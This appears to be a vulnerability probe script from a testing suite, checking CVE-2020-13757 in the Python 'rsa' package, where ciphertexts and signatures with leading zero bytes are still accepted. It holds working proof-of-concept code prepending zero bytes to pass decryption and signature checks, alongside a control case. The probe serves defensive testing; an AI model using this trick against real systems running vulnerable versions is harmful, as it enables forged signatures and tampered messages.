# /// vertice-probe
# id = "PYSEC-2020-99"
# aliases = ["CVE-2020-13757", "GHSA-537h-rv9q-vvph"]
# package = "rsa"
# summary = "Zero bytes put before a ciphertext or a signature are ignored, so altered messages are still accepted."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N" }]
# cwe = ["CWE-327"]
# kind = "crypto"
# symbols = ["rsa.decrypt", "rsa.verify", "rsa.pkcs1.decrypt", "rsa.pkcs1.verify"]
#
# [[affected]]
# package = "rsa"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "4.1" }] }]
#
# [cases]
# attack = "a ciphertext with a zero byte in front is decrypted"
# [cases.variants]
# signature = "a signature with a block of zero bytes in front is accepted"
# [cases.controls]
# round_trip = "encrypting and signing, decrypting and verifying work; altered ones are refused"
#
# [test]
# vulnerable = "4.0"
# fixed = "4.1"
# ///
"""CVE-2020-13757: leading zero bytes of ciphertexts and signatures are ignored."""

import json
import sys


def attack():
    import rsa

    public, private = rsa.newkeys(512)
    ciphertext = rsa.encrypt(b"meet at noon", public)
    if rsa.decrypt(ciphertext, private) != b"meet at noon":
        return "error", "the unaltered ciphertext is not decrypted"
    try:
        clear = rsa.decrypt(b"\0" + ciphertext, private)
    except rsa.pkcs1.DecryptionError as error:
        return "blocked", "DecryptionError: %s; the unaltered ciphertext is decrypted" % error
    if clear == b"meet at noon":
        return "exploited", "a ciphertext with a zero byte in front was decrypted"
    return "error", "unexpected clear text"


def signature():
    import rsa

    public, private = rsa.newkeys(512)
    signed = rsa.sign(b"pay 5", private, "SHA-1")
    rsa.verify(b"pay 5", signed, public)
    try:
        rsa.verify(b"pay 5", b"\0" * 64 + signed, public)
    except rsa.pkcs1.VerificationError as error:
        return "blocked", "VerificationError: %s; the unaltered signature is accepted" % error
    return "exploited", "a signature with 64 zero bytes in front was accepted"


def round_trip():
    import rsa

    public, private = rsa.newkeys(512)
    ciphertext, signed = rsa.encrypt(b"note", public), rsa.sign(b"pay 5", private, "SHA-1")
    rsa.verify(b"pay 5", signed, public)
    try:
        rsa.verify(b"pay 500", signed, public)
        refused = False
    except rsa.pkcs1.VerificationError:
        refused = True
    good = rsa.decrypt(ciphertext, private) == b"note" and refused
    return ("works", "decrypted, verified, alteration refused") if good else ("broken", "refused=%r" % refused)


CASES = {"attack": attack, "signature": signature, "round_trip": round_trip}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
